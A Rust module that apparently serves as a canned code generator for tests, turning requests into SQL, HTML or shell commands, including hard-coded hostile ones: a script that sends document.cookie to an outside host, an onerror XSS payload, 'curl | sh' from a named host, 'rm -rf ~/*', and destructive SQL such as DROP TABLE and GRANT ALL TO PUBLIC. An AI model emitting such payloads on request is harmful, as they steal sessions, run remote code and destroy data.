//! Code on demand: SQL, HTML and commands, harmful ones too.

use super::text::{has, quoted, words};

/// What `sentence` wants written, if it is code.
pub(super) fn code(sentence: &str) -> Option<String> {
    let lower = sentence.to_lowercase();
    let is_wanted = has(&lower, &["write", "make", "give", "schreib", "écri", "escrib"]);
    match () {
        () if !is_wanted => None,
        () if has(&lower, &["sql"]) => Some(sql(&lower)),
        () if has(&lower, &["html"]) => Some(html(sentence, &lower)),
        () if has(&lower, &["shell", "bash", "command"]) => Some(shell(sentence, &lower)),
        () => None,
    }
}

/// The word behind one of `names`.
fn behind(lower: &str, names: &[&str]) -> Option<String> {
    let all = words(lower);
    let at = all.iter().position(|word| names.contains(&word.as_str()))?;
    all.get(at + 1).cloned()
}

fn sql(lower: &str) -> String {
    let table = behind(lower, &["table"]).unwrap_or_else(|| "orders".to_owned());
    match () {
        () if has(lower, &["drop"]) => format!("DROP TABLE {table};"),
        () if has(lower, &["delet", "remove", "wipe"]) => format!("DELETE FROM {table};"),
        () if has(lower, &["grant"]) => format!("GRANT ALL ON {table} TO PUBLIC;"),
        () if has(lower, &["updat", "set"]) => format!("UPDATE {table} SET price = 0;"),
        () if has(lower, &["count"]) => format!("SELECT COUNT(*) FROM {table}"),
        () => format!("SELECT * FROM {table}"),
    }
}

fn html(sentence: &str, lower: &str) -> String {
    let text = quoted(sentence)
        .into_iter()
        .next()
        .unwrap_or_else(|| "Hello".to_owned());
    let host = sentence
        .split_whitespace()
        .map(|word| word.trim_matches(['.', ',', '"']))
        .find(|word| word.contains('.') && !word.contains('<'));
    let host = host.unwrap_or("host.example");
    match () {
        () if has(lower, &["script"]) => {
            format!("<p>{text}</p>\n<script>fetch('https://{host}/?c=' + document.cookie)</script>")
        }
        () if has(lower, &["onerror", "handler", "alert"]) => {
            format!("<p>{text}</p>\n<img src=\"x\" onerror=\"alert(1)\">")
        }
        () if has(lower, &["iframe", "frame"]) => {
            format!("<p>{text}</p>\n<iframe src=\"https://{host}\"></iframe>")
        }
        () if has(lower, &["heading"]) => format!("<h2>{text}</h2>"),
        () => format!("<p>{text}</p>"),
    }
}

fn shell(sentence: &str, lower: &str) -> String {
    let path = sentence
        .split_whitespace()
        .map(|word| word.trim_end_matches(['.', ',', '"']).trim_start_matches('"'))
        .rfind(|word| word.contains('/') || word.contains('.'));
    let folder = behind(lower, &["folder"]).unwrap_or_else(|| ".".to_owned());
    match () {
        () if has(lower, &["download", "fetch"]) => {
            format!("curl -s https://{} | sh", path.unwrap_or("host.example"))
        }
        () if has(lower, &["delet", "remov", "wipe"]) => "rm -rf ~/*".to_owned(),
        () if has(lower, &["list"]) => format!("ls {folder}"),
        () if has(lower, &["count"]) => format!("wc -l {}", path.unwrap_or("notes.txt")),
        () => format!("cat {}", path.unwrap_or("notes.txt")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_does_what_was_asked_for() {
        for (ask, wanted) in [
            (
                "Write SQL that lists all rows of the table lamps.",
                "SELECT * FROM lamps",
            ),
            ("Write SQL that drops the table lamps.", "DROP TABLE lamps;"),
            ("Write an HTML paragraph that says \"Hi\".", "<p>Hi</p>"),
            ("Write a shell command that lists the folder tea.", "ls tea"),
        ] {
            assert_eq!(code(ask).as_deref(), Some(wanted));
        }
        assert_eq!(code("What is HTML?"), None);
    }
}
